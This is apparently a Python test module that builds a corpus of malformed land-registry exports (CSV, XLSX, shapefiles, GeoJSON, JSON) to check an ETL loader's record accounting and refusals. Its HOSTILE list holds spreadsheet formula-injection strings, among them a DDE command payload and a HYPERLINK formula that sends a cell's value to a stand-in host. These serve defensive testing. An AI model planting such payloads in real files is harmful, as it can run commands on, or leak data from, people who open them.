"""A corpus of malformed registry exports, generated (never committed as blobs).

``python tests/adversarial/corpus.py OUT`` writes it to a folder; the tests call
:func:`build`. Every case knows its true record count from how it was made — the
number of non-blank records it wrote — independently of devzone's readers, and what
a correct load does with it: ``account`` (read == that count and read = inserted +
updated + unchanged + rejected), ``refuse`` (an error paragraph naming the file), or
``either``. All names are fictional (合成数据).
"""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import geopandas as gpd
import shapely
from openpyxl import Workbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from test_etl_builders import (
    INDICATOR_HEADER,
    SUPPLY_HEADER,
    credit,
    indicator_rows,
    parcels_frame,
    square,
    supply_rows,
)

#: Strings a spreadsheet would evaluate, and others that break naive writers.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+SUM(1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '"quoted", with comma',
    "line\nbreak",
]


@dataclass
class Case:
    """One malformed input: its files, true record count and the expected outcome."""

    name: str
    paths: list[Path]
    count: int | None
    expect: str  # account | refuse | either
    kwargs: dict = field(default_factory=dict)
    check: Callable | None = None  # (summary, engine) -> None, extra assertions


def _csv(path: Path, header: list[str], rows: list[list], *, encoding: str = "utf-8-sig") -> Path:
    """RFC 4180 CSV (cells with a separator, quote, CR or LF quoted), as Excel writes."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def _supply(n: int = 6) -> list[list]:
    return supply_rows(n)


def _set(rows: list[list], i: int, header: str, value: object) -> list[list]:
    rows[i][SUPPLY_HEADER.index(header)] = value
    return rows


def _iset(rows: list[list], i: int, header: str, value: object) -> list[list]:
    rows[i][INDICATOR_HEADER.index(header)] = value
    return rows


def _xlsx(path: Path, sheets: list[tuple[str, list[str], list[list], str]]) -> Path:
    wb = Workbook()
    wb.remove(wb.active)
    for name, header, rows, state in sheets:
        ws = wb.create_sheet(name)
        ws.append(header)
        for r in rows:
            ws.append(r)
        ws.sheet_state = state
    wb.save(path)
    return path


def _csv_cases(d: Path) -> list[Case]:
    out: list[Case] = []

    def add(name, rows, expect="account", count=None, header=SUPPLY_HEADER, **kw):
        p = _csv(d / f"{name}.csv", header, rows, **kw)
        out.append(Case(name, [p], len(rows) if count is None else count, expect))

    # cell values
    add("csv_1e400_area", _set(_supply(), 1, "面积(公顷)", "1e400"))
    add("csv_nan_area", _set(_supply(), 1, "面积(公顷)", "NaN"))
    add("csv_inf_price", _set(_supply(), 2, "成交价格(万元)", "inf"))
    add("csv_minus_inf", _set(_supply(), 2, "成交价格(万元)", "-Infinity"))
    add("csv_div0_price", _set(_supply(), 0, "成交价格(万元)", "#DIV/0!"))
    add("csv_na_error", _set(_supply(), 0, "面积(公顷)", "#N/A"))
    add("csv_placeholder_date", _set(_supply(), 0, "实际开工时间", "暂无"))
    add("csv_placeholder_weikaigong", _set(_supply(), 1, "实际开工时间", "未开工"))
    add("csv_placeholder_daiding", _set(_supply(), 2, "实际竣工时间", "待定"))
    add("csv_cn_amount", _set(_supply(), 0, "成交价格(万元)", "一千二百万元"))
    add("csv_cn_date", _set(_supply(), 0, "合同签订日期", "二〇一九年七月二十一日"))
    add("csv_cn_garbage", _set(_supply(), 0, "成交价格(万元)", "约一些万元"))
    add("csv_negative_area", _set(_supply(), 0, "面积(公顷)", "-3"))
    add("csv_year_1800", _set(_supply(), 0, "合同签订日期", "1800年1月1日"))
    add("csv_nul_byte", _set(_supply(), 0, "项目名称", "示例\x00项目"))
    add("csv_control_chars", _set(_supply(), 0, "项目名称", "示例\x07\x1b项目"))
    add("csv_emoji_name", _set(_supply(), 0, "土地使用权人", "示例🏭有限公司"))
    add("csv_huge_cell_data", _set(_supply(), 0, "项目名称", "长" * 200_000))
    add(
        "csv_wkt_cell",
        _set(_supply(), 0, "项目位置", "POLYGON((" + ",".join(["1 1"] * 30000) + "))"),
    )
    add("csv_bad_supervision", _set(_supply(), 0, "电子监管号", "34150X"))
    add("csv_missing_key", _set(_supply(), 0, "电子监管号", ""))
    add("csv_duplicate_keys", [*_supply(3), *_supply(3)])
    add("csv_far_order", _set(_set(_supply(), 0, "约定容积率下限", "3"), 0, "约定容积率上限", "1"))
    for i, bad in enumerate(HOSTILE):
        rows = _set(_supply(), 0, "土地使用权人", bad)
        _set(rows, 0, "面积(公顷)", bad)  # a rejected row: the hostile text reaches the rejects
        add(f"csv_hostile_{i}", rows)
    add("csv_gbk", _supply(), encoding="gbk")
    add("csv_utf16", _supply(), encoding="utf-16")

    # indicators: years, credit codes
    def iadd(name, rows, expect="account"):
        add(name, rows, expect, header=INDICATOR_HEADER)

    iadd("ind_year_cn", _iset(indicator_rows(3, (2019,)), 0, "年度", "二〇一九"))
    iadd("ind_year_fraction", _iset(indicator_rows(3, (2019,)), 0, "年度", "2019.5"))
    iadd("ind_startyear_unknown", _iset(indicator_rows(3, (2019,)), 0, "投产年份", "unknown"))
    iadd("ind_year_with_nian", _iset(indicator_rows(3, (2019,)), 0, "年度", "2019年度"))
    hy = credit(1)
    iadd(
        "ind_credit_hyphen",
        _iset(indicator_rows(3, (2019,)), 0, "统一社会信用代码", hy[:8] + "-" + hy[8:]),
    )
    iadd(
        "ind_credit_spaces_lower",
        _iset(indicator_rows(3, (2019,)), 0, "统一社会信用代码", " " + hy.lower() + " "),
    )
    iadd(
        "ind_credit_badcheck",
        _iset(
            indicator_rows(3, (2019,)),
            0,
            "统一社会信用代码",
            hy[:17] + "0" if hy[17] != "0" else hy[:17] + "1",
        ),
    )
    iadd("ind_status_unknown", _iset(indicator_rows(3, (2019,)), 0, "经营状态", "？？"))
    return out


def _raw_csv_cases(d: Path) -> list[Case]:
    """Cases written byte by byte (quotes, separators, encodings, sizes)."""
    out: list[Case] = []
    head = ",".join(SUPPLY_HEADER)
    body = [
        ",".join(str(v) for v in r).replace("1,100.50", "1100.50").replace("1,200.50", "1200.50")
        for r in [
            [c if "," not in str(c) else str(c).replace(",", "") for c in r] for r in _supply(6)
        ]
    ]

    def add(name, text, count, expect, encoding="utf-8"):
        p = d / f"{name}.csv"
        p.write_bytes(text.encode(encoding) if isinstance(text, str) else text)
        out.append(Case(name, [p], count, expect))

    lines = list(body)
    lines[1] = lines[1].replace("示例精密机械项目2", '"示例精密机械项目2')
    lines[5] = lines[5].replace("示例精密机械项目6", '示例精密机械项目6"')
    add("raw_stray_quote_merges", "\n".join([head, *lines]) + "\n", 6, "refuse")
    lines = list(body)
    lines[3] = lines[3].replace("示例精密机械项目4", '"示例精密机械项目4')
    add("raw_unclosed_quote_eof", "\n".join([head, *lines]) + "\n", 6, "refuse")
    lines = list(body)
    lines[2] = lines[2].replace("示例精密机械项目3", '"示例精密\n机械项目3"')
    add("raw_multiline_cell", "\n".join([head, *lines]) + "\n", 6, "account")
    add("raw_crlf_bom", "\ufeff" + "\r\n".join([head, *body]) + "\r\n", 6, "account")
    add(
        "raw_blank_lines",
        "\n".join([head, body[0], "", body[1], ",,,,", *body[2:]]) + "\n",
        6,
        "account",
    )
    add("raw_title_rows", "\n".join(["供地结果一览表", "", head, *body]) + "\n", 6, "account")
    add("raw_huge_title_cell", "\n".join(["X" * 200_000, head, *body]) + "\n", 6, "either")
    add(
        "raw_huge_quoted_title",
        '"' + "Y" * 200_000 + '"\n' + "\n".join([head, *body]) + "\n",
        6,
        "either",
    )
    lines = list(body)
    lines[2] = lines[2] + ",多余,多余"
    add("raw_extra_fields", "\n".join([head, *lines]) + "\n", 6, "either")
    lines = list(body)
    lines[2] = ",".join(lines[2].split(",")[:5])
    add("raw_short_row", "\n".join([head, *lines]) + "\n", 6, "account")
    add("raw_header_only", head + "\n", 0, "either")
    add("raw_empty_file", "", 0, "refuse")
    add("raw_no_header", "\n".join(body) + "\n", 6, "refuse")
    add("raw_semicolon", "\n".join(x.replace(",", ";") for x in [head, *body]) + "\n", 6, "account")
    add("raw_tab", "\n".join(x.replace(",", "\t") for x in [head, *body]) + "\n", 6, "account")
    gbk = ("\n".join([head, *body]) + "\n").encode("gbk")
    add("raw_gbk_bad_byte", gbk[:400] + b"\xff\xfe" + gbk[400:], 6, "refuse")
    add(
        "raw_mixed_utf8_gbk",
        ("\n".join([head, *body[:3]]) + "\n").encode() + ("\n".join(body[3:]) + "\n").encode("gbk"),
        6,
        "refuse",
    )
    add("raw_binary_garbage", bytes(range(256)) * 8, 0, "refuse")
    add("raw_nul_line", "\n".join([head, body[0], "\x00\x00\x00", *body[1:]]) + "\n", 7, "either")
    return out


def _xlsx_cases(d: Path) -> list[Case]:
    out: list[Case] = []
    ind = INDICATOR_HEADER
    p = _xlsx(
        d / "x_two_sheets.xlsx",
        [
            ("2018", ind, indicator_rows(3, (2018,)), "visible"),
            ("2019", ind, indicator_rows(4, (2019,)), "visible"),
        ],
    )
    out.append(Case("x_two_sheets", [p], 7, "account"))
    p = _xlsx(
        d / "x_hidden_sheet.xlsx",
        [
            ("old", ind, indicator_rows(5, (2017,)), "hidden"),
            ("2019", ind, indicator_rows(3, (2019,)), "visible"),
        ],
    )
    out.append(Case("x_hidden_sheet", [p], 3, "account", check=_skipped_hidden))
    p = _xlsx(
        d / "x_veryhidden.xlsx",
        [
            ("2019", ind, indicator_rows(3, (2019,)), "visible"),
            ("h", ind, indicator_rows(2, (2016,)), "veryHidden"),
        ],
    )
    out.append(Case("x_veryhidden", [p], 3, "account", check=_skipped_hidden))
    p = _xlsx(
        d / "x_hidden_asked.xlsx",
        [
            ("old", ind, indicator_rows(5, (2017,)), "hidden"),
            ("2019", ind, indicator_rows(3, (2019,)), "visible"),
        ],
    )
    out.append(Case("x_hidden_asked", [p], 8, "account", kwargs={"hidden_sheets": True}))
    p = _xlsx(
        d / "x_notes_sheet.xlsx",
        [
            ("说明", ["说明"], [["本表为合成数据"]], "visible"),
            ("2019", ind, indicator_rows(3, (2019,)), "visible"),
        ],
    )
    out.append(Case("x_notes_sheet", [p], 3, "account"))
    p = _xlsx(
        d / "x_supply_and_ind.xlsx",
        [
            ("供地", SUPPLY_HEADER, supply_rows(2), "visible"),
            ("指标", ind, indicator_rows(2, (2019,)), "visible"),
        ],
    )
    out.append(Case("x_supply_and_ind", [p], 4, "account"))
    # merged header across two columns
    wb = Workbook()
    ws = wb.active
    ws.append(["供地结果"])
    ws.merge_cells("A1:W1")  # a merged title row is fine
    ws.append(SUPPLY_HEADER)
    for r in supply_rows(4):
        ws.append(r)
    wb.save(d / "x_merged_title.xlsx")
    out.append(Case("x_merged_title", [d / "x_merged_title.xlsx"], 4, "account"))
    wb = Workbook()
    ws = wb.active
    header = list(SUPPLY_HEADER)
    header[5] = None
    ws.append(header)
    ws.merge_cells("E1:F1")
    for r in supply_rows(4):
        ws.append(r)
    wb.save(d / "x_merged_header.xlsx")
    out.append(Case("x_merged_header", [d / "x_merged_header.xlsx"], 4, "refuse"))
    wb = Workbook()
    ws = wb.active
    ws.append(SUPPLY_HEADER)
    for r in supply_rows(4):
        ws.append(r)
    ws.merge_cells("A2:A5")  # 行政区 merged down: every row 金安区
    wb.save(d / "x_merged_down.xlsx")
    out.append(Case("x_merged_down", [d / "x_merged_down.xlsx"], 4, "account"))
    rows = indicator_rows(3, (2019,))
    rows[0][INDICATOR_HEADER.index("税收实际贡献(万元)")] = "=F3*2"  # a formula, no cached value
    p = _xlsx(d / "x_formula_no_cache.xlsx", [("2019", ind, rows, "visible")])
    out.append(Case("x_formula_no_cache", [p], 3, "account", check=_rejected_at_least(1)))
    rows = indicator_rows(3, (2019,))
    rows[1][INDICATOR_HEADER.index("营业收入(万元)")] = "#DIV/0!"
    p = _xlsx(d / "x_error_cell.xlsx", [("2019", ind, rows, "visible")])
    out.append(Case("x_error_cell", [p], 3, "account", check=_rejected_at_least(1)))
    import datetime as dt

    rows = indicator_rows(3, (2019,))
    rows[0][INDICATOR_HEADER.index("年度")] = dt.datetime(2019, 1, 1)
    p = _xlsx(d / "x_year_as_date.xlsx", [("2019", ind, rows, "visible")])
    out.append(Case("x_year_as_date", [p], 3, "account"))
    rows = indicator_rows(3, (2019,))
    rows[0][INDICATOR_HEADER.index("年度")] = 2019.5
    rows[1][INDICATOR_HEADER.index("投产年份")] = "unknown"
    p = _xlsx(d / "x_year_fraction.xlsx", [("2019", ind, rows, "visible")])
    out.append(Case("x_year_fraction", [p], 3, "account"))
    rows = indicator_rows(3, (2019,))
    rows[0][INDICATOR_HEADER.index("营业收入(万元)")] = "NaN"
    rows[1][INDICATOR_HEADER.index("营业收入(万元)")] = "1e400"
    p = _xlsx(d / "x_nan_inf_text.xlsx", [("2019", ind, rows, "visible")])
    out.append(Case("x_nan_inf_text", [p], 3, "account", check=_rejected_at_least(2)))
    rows = indicator_rows(3, (2019,)) + [[None] * len(ind)] * 50
    p = _xlsx(d / "x_trailing_blank.xlsx", [("2019", ind, rows, "visible")])
    out.append(Case("x_trailing_blank", [p], 3, "account"))
    p = _xlsx(d / "x_empty.xlsx", [("Sheet1", [], [], "visible")])
    out.append(Case("x_empty", [p], 0, "refuse"))
    (d / "x_truncated.xlsx").write_bytes((d / "x_two_sheets.xlsx").read_bytes()[:900])
    out.append(Case("x_truncated", [d / "x_truncated.xlsx"], 0, "refuse"))
    (d / "x_is_csv.xlsx").write_text(",".join(SUPPLY_HEADER) + "\n", encoding="utf-8")
    out.append(Case("x_is_csv", [d / "x_is_csv.xlsx"], 0, "refuse"))
    rows = indicator_rows(2, (2019,))
    rows[0][INDICATOR_HEADER.index("企业名称")] = HOSTILE[0]
    rows[0][INDICATOR_HEADER.index("营业收入(万元)")] = "=1+1"
    p = _xlsx(d / "x_hostile.xlsx", [("2019", ind, rows, "visible")])
    out.append(Case("x_hostile", [p], 2, "account"))
    return out


def _skipped_hidden(summary, engine) -> None:
    assert any("hidden" in s["reason"] for s in summary.skipped), summary.skipped


def _rejected_at_least(n: int):
    def check(summary, engine) -> None:
        assert summary.rejected >= n, (summary.rejected, summary.to_dict())

    return check


def _vector_cases(d: Path) -> list[Case]:
    out: list[Case] = []
    gdf = parcels_frame(5)
    p = d / "v_two_layers.gpkg"
    gdf.to_file(p, layer="parcels", engine="pyogrio")
    b = gpd.GeoDataFrame(
        {
            "建筑编号": [f"B{i}" for i in range(3)],
            "宗地代码": list(gdf["ZDDM"][:3]),
            "层数": [3, 4, 5],
        },
        geometry=[square(i, 0.0005) for i in range(1, 4)],
        crs=gdf.crs,
    )
    b.to_file(p, layer="buildings", engine="pyogrio")
    out.append(Case("v_two_layers", [p], 8, "account"))
    p = d / "v_layer_unmapped.gpkg"
    gdf.to_file(p, layer="parcels", engine="pyogrio")
    gpd.GeoDataFrame({"foo": [1]}, geometry=[square(1)], crs=gdf.crs).to_file(
        p, layer="misc", engine="pyogrio"
    )
    out.append(Case("v_layer_unmapped", [p], 5, "account"))
    # zipped shapefile set with two layers
    z = d / "v_two_shp.zip"
    tmp = d / "_shp2"
    tmp.mkdir(exist_ok=True)
    gdf.iloc[:3].to_file(tmp / "a.shp", encoding="UTF-8", engine="pyogrio")
    gdf.iloc[3:].to_file(tmp / "b.shp", encoding="UTF-8", engine="pyogrio")
    with zipfile.ZipFile(z, "w") as zf:
        for f in sorted(tmp.iterdir()):
            zf.write(f, f.name)
    out.append(Case("v_two_shp_zip", [z], 5, "account"))
    # truncated .dbf: 20 features, the table cut after 9
    big = parcels_frame(20)
    big.to_file(d / "v_trunc.shp", encoding="UTF-8", engine="pyogrio")
    dbf = (d / "v_trunc.dbf").read_bytes()
    hl = int.from_bytes(dbf[8:10], "little")
    rl = int.from_bytes(dbf[10:12], "little")
    (d / "v_trunc.dbf").write_bytes(dbf[: hl + 9 * rl + 5])
    out.append(Case("v_truncated_dbf", [d / "v_trunc.shp"], 20, "refuse"))
    big.to_file(d / "v_trunc_shp.shp", encoding="UTF-8", engine="pyogrio")
    shp = (d / "v_trunc_shp.shp").read_bytes()
    (d / "v_trunc_shp.shp").write_bytes(shp[: len(shp) // 2])
    out.append(Case("v_truncated_shp", [d / "v_trunc_shp.shp"], 20, "either"))
    # lying .cpg: declares GBK, data is UTF-8
    gdf.to_file(d / "v_lying_cpg.shp", encoding="UTF-8", engine="pyogrio")
    (d / "v_lying_cpg.cpg").write_text("GBK")
    out.append(
        Case("v_lying_cpg", [d / "v_lying_cpg.shp"], 5, "account", check=_names_not_mojibake)
    )
    gdf.to_file(d / "v_gbk_no_cpg.shp", encoding="GBK", engine="pyogrio")
    (d / "v_gbk_no_cpg.cpg").unlink(missing_ok=True)
    out.append(
        Case("v_gbk_no_cpg", [d / "v_gbk_no_cpg.shp"], 5, "account", check=_names_not_mojibake)
    )
    gdf.to_file(d / "v_utf8_cpg_gbk.shp", encoding="GBK", engine="pyogrio")
    (d / "v_utf8_cpg_gbk.cpg").write_text("UTF-8")
    out.append(Case("v_utf8_cpg_gbk_data", [d / "v_utf8_cpg_gbk.shp"], 5, "refuse"))
    gdf.to_file(d / "v_local_cs.shp", encoding="UTF-8", engine="pyogrio")
    (d / "v_local_cs.prj").write_text('LOCAL_CS["arbitrary",UNIT["metre",1]]')
    out.append(Case("v_local_cs_prj", [d / "v_local_cs.shp"], 5, "either"))
    gdf.to_file(d / "v_no_prj.shp", encoding="UTF-8", engine="pyogrio")
    (d / "v_no_prj.prj").unlink()
    out.append(Case("v_no_prj", [d / "v_no_prj.shp"], 5, "either"))
    g3 = gdf.copy()
    g3["geometry"] = [shapely.force_3d(g, 12.5) for g in g3.geometry]
    g3.to_file(d / "v_3d.gpkg", engine="pyogrio")
    out.append(Case("v_3d_polygons", [d / "v_3d.gpkg"], 5, "account"))
    ge = gdf.copy()
    ge.loc[0, "geometry"] = None
    ge.loc[1, "geometry"] = shapely.Polygon()
    ge.to_file(d / "v_empty_geoms.gpkg", engine="pyogrio")
    out.append(Case("v_empty_geoms", [d / "v_empty_geoms.gpkg"], 5, "account"))
    gb = gdf.copy()
    gb.loc[0, "geometry"] = shapely.Polygon(
        [(116.52, 31.74), (116.53, 31.75), (116.53, 31.74), (116.52, 31.75)]
    )
    gb.to_file(d / "v_bowtie.gpkg", engine="pyogrio")
    out.append(Case("v_bowtie", [d / "v_bowtie.gpkg"], 5, "account"))
    gp = gdf.copy()
    gp.loc[0, "geometry"] = shapely.Point(116.52, 31.74)
    gp.to_file(d / "v_point_in_polygons.geojson", engine="pyogrio", driver="GeoJSON")
    out.append(Case("v_point_for_parcel", [d / "v_point_in_polygons.geojson"], 5, "account"))
    gn = gdf.copy()
    gn.loc[0, "QLR"] = "示例\x00公司"
    gn.loc[1, "QLR"] = HOSTILE[1]
    gn.to_file(d / "v_nul_attr.geojson", engine="pyogrio", driver="GeoJSON")
    out.append(Case("v_nul_attribute", [d / "v_nul_attr.geojson"], 5, "either"))
    far = gdf.copy()
    far.loc[0, "geometry"] = shapely.box(1e10, 1e10, 1e10 + 1, 1e10 + 1)
    far.to_file(d / "v_far_coords.gpkg", engine="pyogrio")
    out.append(Case("v_far_coords", [d / "v_far_coords.gpkg"], 5, "either"))
    fc = json.loads(gdf.to_json())
    fc["features"][2]["geometry"] = {"type": "Polygon", "coordinates": [[[1, 2]]]}
    (d / "v_broken_feature.geojson").write_text(
        json.dumps(fc, ensure_ascii=False), encoding="utf-8"
    )
    out.append(Case("v_broken_feature", [d / "v_broken_feature.geojson"], 5, "either"))
    text = gdf.to_json()
    (d / "v_truncated.geojson").write_text(text[: len(text) // 2], encoding="utf-8")
    out.append(Case("v_truncated_geojson", [d / "v_truncated.geojson"], 5, "refuse"))
    gdf.to_file(d / "v_no_dbf.shp", encoding="UTF-8", engine="pyogrio")
    (d / "v_no_dbf.dbf").unlink()
    out.append(Case("v_missing_dbf", [d / "v_no_dbf.shp"], 5, "either"))
    (d / "v_garbage.gpkg").write_bytes(b"SQLite format 3\x00" + b"\x00" * 100)
    out.append(Case("v_garbage_gpkg", [d / "v_garbage.gpkg"], 0, "refuse"))
    return out


def _names_not_mojibake(summary, engine) -> None:
    from devzone.db.io import read

    names = (
        read(engine, "parcel")["holder_name"].dropna().tolist()
        if "holder_name" in read(engine, "parcel")
        else []
    )
    assert all("示例" in n for n in names if "机械" in n or n), names


def _json_cases(d: Path) -> list[Case]:
    out: list[Case] = []
    recs = [dict(zip(SUPPLY_HEADER, r, strict=True)) for r in supply_rows(4)]
    lines = [json.dumps(r, ensure_ascii=False) for r in recs]
    lines[2] = lines[2][:-5]
    (d / "j_broken_line.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out.append(Case("j_broken_line", [d / "j_broken_line.jsonl"], 4, "refuse"))
    (d / "j_scalars.json").write_text(
        json.dumps([*recs[:2], 5, "x"], ensure_ascii=False), encoding="utf-8"
    )
    out.append(Case("j_scalars_in_array", [d / "j_scalars.json"], 4, "either"))
    recs2 = [dict(r) for r in recs]
    recs2[0]["面积(公顷)"] = 1e308 * 10 if False else "1e400"
    recs2[1]["成交价格(万元)"] = {"nested": [1, 2]}
    (d / "j_odd_values.json").write_text(json.dumps(recs2, ensure_ascii=False), encoding="utf-8")
    out.append(Case("j_odd_values", [d / "j_odd_values.json"], 4, "account"))
    (d / "j_not_json.json").write_text("{not json", encoding="utf-8")
    out.append(Case("j_not_json", [d / "j_not_json.json"], 0, "refuse"))
    return out


def build(folder: str | Path) -> list[Case]:
    """Write every case under ``folder``; the cases, in order."""
    d = Path(folder)
    d.mkdir(parents=True, exist_ok=True)
    return [*_csv_cases(d), *_raw_csv_cases(d), *_xlsx_cases(d), *_vector_cases(d), *_json_cases(d)]


if __name__ == "__main__":
    cases = build(sys.argv[1] if len(sys.argv) > 1 else "adversarial_corpus")
    for c in cases:
        print(f"{c.name}\t{c.expect}\t{c.count}\t{' '.join(map(str, c.paths))}")
    print(f"{len(cases)} cases")
